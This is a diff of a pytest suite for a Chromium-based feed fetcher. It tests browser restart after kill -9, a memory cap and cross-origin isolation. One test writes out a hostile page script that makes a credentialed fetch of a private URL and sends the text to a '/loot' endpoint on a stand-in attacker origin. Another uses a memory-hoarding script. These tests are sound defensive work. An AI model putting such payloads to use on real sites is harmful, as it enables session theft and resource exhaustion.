@@ -2,21 +2,30 @@
 
 from __future__ import annotations
 
+import os
 import shutil
+import signal
 import sys
 import time
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
 from dataclasses import dataclass
+from typing import TYPE_CHECKING
 
 import pytest
 
 from feedmaker.errors import AddressRefused, FetchError, Stopping
-from feedmaker.fetch import Web, browser, rendering
+from feedmaker.fetch import Web, browser, chromium, rendering
 from feedmaker.model import Access, Rendering
 from tests.fetch.hostile import PAGE, FakeResolver, Peer, Reader, Server, policy, says, serving
 
+if TYPE_CHECKING:
+    from psutil import Process
+
 pytest.importorskip("playwright.sync_api")
-pytestmark = pytest.mark.skipif(not any(map(shutil.which, browser.NAMES)), reason="this machine has no Chromium")
+pytest.importorskip("psutil")
+pytestmark = pytest.mark.skipif(not any(map(shutil.which, chromium.NAMES)), reason="this machine has no Chromium")
 
 SECRET = "Geheimnis"
 QUICK = Rendering(wait_for="body")
@@ -189,19 +198,127 @@ def test_an_answer_that_is_no_page_needs_no_browser(place: Place) -> None:
         place.reader.fetch("http://10.0.0.1/", browser=Rendering())
 
 
-def test_a_browser_that_has_died_is_started_again_and_an_old_one_replaced(
+def process_of(reader: Reader) -> Process:
+    """Chromium's own process, whose children show the pages."""
+    running = reader.web._browser._chromium
+    assert running is not None
+    assert running._process is not None
+    return running._process
+
+
+def killed(place: Place, which: str) -> None:
+    """Kill -9 a part of the browser that is running: Chromium itself, or the driver that it hangs on."""
+    process = process_of(place.reader)
+    parent = process.parent()
+    assert parent is not None
+    os.kill(process.pid if which == "Chromium" else parent.pid, signal.SIGKILL)
+
+
+@pytest.mark.parametrize("which", ["Chromium", "driver"])
+def test_a_browser_that_was_killed_is_started_again(place: Place, which: str) -> None:
+    url = place.page("")
+    place.reader.page(url, browser=QUICK)
+    first = place.reader.web._browser._chromium
+    killed(place, which)
+    place.reader.page(url, browser=QUICK)
+    assert place.reader.web._browser._chromium is not first
+
+
+def test_a_page_whose_browser_is_killed_while_it_is_shown_is_shown_by_another(place: Place) -> None:
+    def kill(peer: Peer) -> None:
+        killed(place, "Chromium")
+        peer.answer()
+
+    place.server.add("/app.js", kill, says(b"document.body.id = 'done'"))
+    url = place.server.add("/", says(SHELL, headers="Content-Type: text/html\r\n"))
+    assert place.reader.page(url, browser=Rendering(wait_for="#done")).tree.cssselect("#done")
+    assert place.server.paths() == ["/", "/app.js", "/app.js"]
+
+
+def test_a_browser_that_hangs_is_ended_and_the_next_page_shown_by_another(
     place: Place, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    url, owner = place.page(""), place.reader.web._browser
-    place.reader.page(url, browser=QUICK)
-    assert owner._thread is not None
-    assert owner._chromium is not None
-    owner._thread.submit(owner._chromium.close).result()
-    place.reader.page(url, browser=QUICK)
-    second = owner._chromium
+    monkeypatch.setattr(browser, "GRACE_SECONDS", 0.5)
+    with Reader(Web(policy(place.server, seconds=3))) as reader:
+        url = place.page("")
+        reader.page(url, browser=QUICK)
+        process = process_of(reader)
+        process.suspend()
+        with pytest.raises(FetchError):
+            reader.fetch(url, browser=QUICK)
+        reader.page(url, browser=QUICK)
+        assert not process.is_running()
+
+
+def test_an_old_browser_is_replaced(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
+    place.reader.page(place.page(""), browser=QUICK)
+    process = process_of(place.reader)
     monkeypatch.setattr(browser, "PAGES_A_BROWSER", 1)
-    place.reader.page(url, browser=QUICK)
-    assert owner._chromium is not second
+    place.reader.page(place.page(""), browser=QUICK)
+    assert process_of(place.reader) != process
+    assert not process.is_running()
+
+
+def test_a_page_that_takes_too_much_memory_loses_its_process_and_the_next_is_shown(
+    place: Place, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(chromium, "MEMORY", 500 * 1024 * 1024)
+    hoard = "const kept = []; setInterval(() => kept.push(new Uint8Array(32 << 20).fill(1)), 10)"
+    place.reader.page(place.page(""), browser=QUICK)
+    first = place.reader.web._browser._chromium
+    with pytest.raises(FetchError, match="the browser needs more than 500 MiB of memory"):
+        place.reader.fetch(place.page(hoard), browser=Rendering(wait_for="#never"))
+    place.reader.page(place.page(""), browser=QUICK)
+    assert place.reader.web._browser._chromium is first
+
+
+def test_pages_wait_for_the_browser_without_losing_time_for_that(place: Place) -> None:
+    hosts = [f"h{number}.test" for number in range(4)]
+    resolver = FakeResolver({host: [["127.0.0.1"]] for host in hosts})
+    url = place.page("setTimeout(() => document.body.id = 'done', 1200)")
+    with Reader(Web(policy(place.server, seconds=4), resolver=resolver)) as reader, ThreadPoolExecutor(4) as pool:
+        urls = [url.replace("127.0.0.1", host) for host in hosts]
+        pages = list(pool.map(lambda each: reader.page(each, browser=Rendering(wait_for="#done")), urls))
+    assert [len(page.tree.cssselect("#done")) for page in pages] == [1, 1, 1, 1]
+
+
+def test_a_page_that_a_script_leads_to_cannot_read_what_is_open_to_the_source_alone(place: Place) -> None:
+    port = place.server.port
+    home, evil = f"http://a.test:{port}", f"http://b.test:{port}"
+    html = "Content-Type: text/html\r\n"
+    loot = f"fetch('{home}/private', {{credentials: 'include'}}).then(r => r.text()).then(t => fetch('/loot?' + t))"
+    place.server.add("/news", says(f"<body><script>location = '{evil}/page'</script>".encode(), headers=html))
+    place.server.add("/private", says(b"all-mine", headers="Content-Type: text/plain\r\n"))
+    place.page(loot)
+    access = Access(url=f"{home}/news", headers={"X-Key": SECRET}, cookies={"session": SECRET})
+    with suppress(FetchError):
+        place.reader.fetch(f"{home}/news", access=access, browser=Rendering())
+    seen = {request.path: request.headers for request in place.server.requests}
+    assert seen["/news"]["x-key"] == SECRET
+    assert SECRET not in str(seen["/private"])
+    assert SECRET not in str(seen["/page"])
+
+
+def test_what_a_page_asks_of_another_host_waits_for_the_request_that_is_open_there(place: Place) -> None:
+    at_once, most = [0], [0]
+
+    def slow(peer: Peer) -> None:
+        at_once[0] += 1
+        most[0] = max(most[0], at_once[0])
+        peer.closing.wait(0.3)
+        at_once[0] -= 1
+        peer.answer(headers="Content-Type: text/html\r\n")
+
+    other = f"http://b.test:{place.server.port}"
+    place.server.add("/slow", slow)
+    url = place.page(f"for (let i = 0; i < 3; i++) fetch('{other}/slow').catch(() => 0)")
+    with ThreadPoolExecutor(2) as pool:
+        shown = pool.submit(place.reader.page, url, browser=Rendering())
+        for _ in range(4):
+            place.reader.page(f"{other}/slow")
+        shown.result(20)
+    assert place.server.paths().count("/slow") == 7
+    assert most == [1]
 
 
 def test_stopping_ends_a_page_that_is_being_shown(server: Server) -> None:
